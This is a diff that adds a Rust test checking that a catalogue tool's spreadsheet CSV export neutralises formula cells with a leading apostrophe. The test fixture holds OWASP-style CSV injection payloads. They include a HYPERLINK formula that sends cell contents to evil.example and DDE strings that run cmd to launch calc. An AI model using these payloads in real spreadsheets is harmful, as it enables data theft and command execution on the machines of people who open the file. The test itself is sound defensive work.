@@ -191,6 +191,103 @@ print(json.dumps({"source": source, "exported": exported}))
     assert_eq!(ids, want);
 }
 
+/// Catalogue values that a spreadsheet would run as formulas (the attack strings of OWASP's "CSV
+/// Injection" page): `vitrine corpus --csv` writes them with a leading apostrophe, plain numbers in
+/// a number field as they are; `--csv-exact` writes every value as catalogued. Python's csv module
+/// reads both back.
+#[test]
+fn csv_for_spreadsheets_defuses_formulas_and_the_exact_csv_keeps_them() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let n = 12;
+    let data: Vec<f32> = (0..n * 4).map(|v| ((v * 37) % 17) as f32 * 0.1).collect();
+    write_npy_f32(&d.join("vectors.npy"), n, 4, &data).unwrap();
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "plain title",
+    ];
+    let mut csv = String::from("object,title,+weight\n");
+    for i in 0..n {
+        let id = if i == 0 {
+            "=id0".to_string()
+        } else {
+            format!("ob-{i}")
+        };
+        let title = hostile[i % hostile.len()].replace('"', "\"\"");
+        csv.push_str(&format!("{id},\"{title}\",{}\n", -2.5 + i as f32));
+    }
+    std::fs::write(d.join("records.csv"), &csv).unwrap();
+    let o = common::quick_build()
+        .current_dir(d)
+        .args(["--vectors", "vectors.npy", "--catalogue", "records.csv"])
+        .args(["--id-column", "object", "--out", "atlas"])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    ok(&corpus(d, &["--csv", "sheet.csv"]));
+    ok(&corpus(d, &["--csv", "exact.csv", "--csv-exact"]));
+    let script = r#"
+import csv, json, sys
+rows = {}
+for name in sys.argv[1:]:
+    with open(name, newline="", encoding="utf-8") as f:
+        rows[name.rsplit("/", 1)[-1]] = list(csv.reader(f))
+print(json.dumps(rows))
+"#;
+    let got = common::run_python(
+        script,
+        &[
+            &d.join("records.csv"),
+            &d.join("sheet.csv"),
+            &d.join("exact.csv"),
+        ],
+    );
+    let v: serde_json::Value = serde_json::from_str(&got).unwrap();
+    let rows = |k: &str| -> Vec<Vec<String>> { serde_json::from_value(v[k].clone()).unwrap() };
+    let (source, sheet, exact) = (rows("records.csv"), rows("sheet.csv"), rows("exact.csv"));
+    let sorted = |mut r: Vec<Vec<String>>| {
+        r[1..].sort();
+        r
+    };
+    // The exact CSV is the catalogue, row for row (in atlas order, so compared sorted).
+    assert_eq!(sorted(exact.clone()), sorted(source.clone()));
+    // The spreadsheet CSV: every cell that begins with = + - @ or a tab has the apostrophe (the
+    // header's "+weight" and the id "=id0" too), numbers in the number field do not.
+    assert_eq!(sheet[0], ["object", "title", "'+weight"]);
+    assert_eq!(sheet.len(), exact.len());
+    for (s, e) in sheet[1..].iter().zip(&exact[1..]) {
+        for (c, (sc, ec)) in s.iter().zip(e).enumerate() {
+            let formula = ec.starts_with(['=', '+', '-', '@', '\t']);
+            if c == 2 {
+                assert_eq!(sc, ec, "a plain number stays a number");
+                assert!(ec.parse::<f64>().is_ok(), "{ec}");
+            } else if formula {
+                assert_eq!(sc, &format!("'{ec}"));
+            } else {
+                assert_eq!(sc, ec);
+            }
+        }
+    }
+    let defused = sheet[1..]
+        .iter()
+        .flatten()
+        .filter(|c| c.starts_with('\''))
+        .count();
+    assert_eq!(
+        defused,
+        1 + 5 * 2,
+        "the id, and five hostile titles twice in twelve rows"
+    );
+    assert!(
+        sheet[1..].iter().any(|r| r[2].starts_with('-')),
+        "negative numbers were tested"
+    );
+}
+
 #[test]
 fn a_corpus_file_replays_to_the_same_items_and_bad_input_is_named() {
     let dir = tempfile::tempdir().unwrap();
